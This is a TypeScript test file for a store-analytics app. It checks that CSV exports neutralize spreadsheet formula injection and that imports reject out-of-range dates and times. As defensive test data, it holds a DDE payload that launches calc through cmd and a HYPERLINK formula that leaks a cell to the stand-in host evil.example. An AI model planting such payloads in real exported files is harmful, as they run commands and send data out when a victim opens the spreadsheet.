import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ingest } from '@/core/background/ingest';
import { csvNumber, csvText, parseCsv, undefused } from '@/core/background/transfer/csv';
import { exportText, type ExportFile } from '@/core/background/transfer/export';
import { importData } from '@/core/background/transfer/import';
import type { Database, DailyRecord } from '@/core/db';
import { allDays, day, freshDb, noonOf, obs, report, SYCM_URL } from './support/db';

/** Export files opened in a spreadsheet run nothing; odd stored times never break an export; imports are bounded. */

const CALC = `-1+cmd|' /C calc'!A0`;
const LINK = `-2-HYPERLINK("http://evil.example/?leak="&A1,"click")`;
const NOW = noonOf('2026-11-26');
const exportCsv = (db: Database) => exportText(db, 'csv', NOW);
const exportJson = async (db: Database) => JSON.parse(await exportText(db, 'json', NOW)) as ExportFile;

async function hostileShop() {
  const db = await freshDb('storepulse-safety');
  await ingest(
    db,
    report(
      [
        obs('visitors', 3120),
        obs('visitors', 900, { breakdown: { dimension: '\t=1+1', key: LINK } }),
        obs('visitors', 700, { peer: '@SUM(A1:A9)' }),
        obs('visitors', 500, { breakdown: { dimension: 'source', key: `'=already quoted` } }),
      ],
      day('2026-11-25'),
      { store: CALC },
    ),
    { url: SYCM_URL, now: NOW },
  );
  return db;
}

describe('CSV formula defusing', () => {
  it('defuses every text field a spreadsheet would run, keeps numbers as numbers, and imports back the same text', async () => {
    const db = await hostileShop();
    const csv = await exportCsv(db);
    const rows = parseCsv(csv);
    const header = rows[0]!;
    const valueAt = header.indexOf('value');
    for (const row of rows.slice(1))
      row.forEach((cell, i) => {
        if (i === valueAt) expect(Number(cell), cell).toBeGreaterThan(0);
        else expect(cell, `${header[i]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      });
    expect(csv).toContain(`'${CALC}`);
    expect(csv).toContain(`"'${LINK.replace(/"/g, '""')}"`);

    const target = await freshDb('storepulse-safety');
    const result = await importData(target, csv, NOW);
    expect(result.rejected).toEqual([]);
    const strip = (d: DailyRecord[]) => d.map(({ observedAt: _o, ...rest }) => rest).sort((a, b) => a.id.localeCompare(b.id));
    expect(strip(await allDays(target))).toEqual(strip(await allDays(db)));
  });

  it('writes a negative number as a number, and round-trips any text', () => {
    expect(csvNumber(-1.5)).toBe('-1.5');
    expect(csvText('-1.5')).toBe(`'-1.5`);
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n', 'a', '1') }), (text) => {
        const cell = csvText(text);
        const [[parsed]] = parseCsv(`${cell},x`) as [[string]];
        expect(parsed).not.toMatch(/^[=+\-@\t\r]/);
        expect(undefused(parsed)).toBe(text);
      }),
    );
  });
});

describe('times and days on import, and exports of whatever is stored', () => {
  it('exports CSV and JSON even when a stored record holds a time no date can hold', async () => {
    const db = await hostileShop();
    const [first] = await db.getAll('days');
    const [series, ...rest] = first!.series;
    await db.put('days', {
      ...first!,
      series: [{ ...series!, observedAt: series!.observedAt.map((at) => (at === null ? null : 9e15)) }, ...rest],
    });
    const rows = parseCsv(await exportCsv(db));
    expect(rows).toHaveLength(5);
    const observedAt = rows[0]!.indexOf('observed_at');
    expect(rows.slice(1).map((r) => r[observedAt])).toContain('');
    expect(JSON.stringify(await exportJson(db))).toContain('9000000000000000');
  });

  it('refuses records dated after tomorrow, or with times no later export could write, and keeps the rest', async () => {
    const source = await hostileShop();
    const file = await exportJson(source);
    const [d0, d1, d2] = file.daily;
    file.daily = [
      { ...d0!, observedAt: 9e15 },
      { ...d1!, date: '2999-01-01', id: d1!.id.replace('2026-11-25', '2999-01-01') },
      d2!,
    ];
    file.readings = [{ ...file.readings[0]!, observedAt: 9e15 }, ...file.readings.slice(1)];
    file.alerts = [];
    const target = await freshDb('storepulse-safety');
    const result = await importData(target, JSON.stringify(file), NOW);
    expect(result.rejected.map((r) => [r.section, r.index, r.what])).toEqual([
      ['daily', 0, { kind: 'field', field: 'observedAt' }],
      ['daily', 1, { kind: 'field', field: 'date' }],
      ['readings', 0, { kind: 'field', field: 'observedAt' }],
    ]);
    expect(result.added.daily).toBe(1);
    expect(result.added.readings).toBe(file.readings.length - 1);
    await expect(exportCsv(target)).resolves.toContain('2026-11-25');

    const csv =
      'date,site,store,metric,value,observed_at\r\n2026-11-25,sycm,A,visitors,1,+275760-09-13T00:00:00.000Z\r\n2027-01-01,sycm,A,visitors,1,2026-11-25T00:00:00.000Z\r\n';
    const fromCsv = await importData(target, csv, NOW);
    expect(fromCsv.rejected.map((r) => [r.index, r.what])).toEqual([
      [2, { kind: 'field', field: 'observed_at' }],
      [3, { kind: 'field', field: 'date' }],
    ]);
  });
});
